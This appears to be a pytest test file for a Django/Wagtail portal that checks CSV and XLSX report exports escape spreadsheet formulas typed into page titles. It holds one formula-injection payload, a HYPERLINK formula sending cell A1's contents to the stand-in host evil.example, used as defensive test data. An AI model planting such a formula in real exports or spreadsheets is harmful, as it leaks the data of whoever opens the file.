"""Fault 25: what somebody typed is never computed by the spreadsheet of whoever downloads it."""

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from wagtail.models import Page

from portal.accounts.models import User
from portal.common.spreadsheets import inert

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


@pytest.fixture
def administrator(db) -> Client:
    client = Client()
    client.force_login(User.objects.create_superuser("root", password="a long enough password"))
    return client


@pytest.fixture
def page(db) -> Page:
    """A page whose title is a formula, as an editor could write it."""
    page = Page.objects.get(depth=1).add_child(instance=Page(title=FORMULA, slug="formula"))
    page.save_revision().publish()
    return page


def download(client: Client, kind: str) -> bytes:
    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": kind})
    assert response.status_code == 200
    return response.getvalue()


def test_a_formula_in_a_csv_report_is_text(administrator, page):
    rows = list(csv.reader(io.StringIO(download(administrator, "csv").decode())))
    titles = [row[0] for row in rows]
    assert f"'{FORMULA}" in titles
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_a_formula_in_an_xlsx_report_is_text(administrator, page):
    sheet = openpyxl.load_workbook(io.BytesIO(download(administrator, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert not [cell for cell in cells if cell.data_type == "f"]


@given(st.text())
def test_no_text_begins_a_formula(text):
    assert not str(inert(text)).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert str(inert(text)).endswith(text)


@pytest.mark.parametrize("value", [None, True, 0, -3, 1.5])
def test_numbers_stay_numbers(value):
    assert inert(value) is value
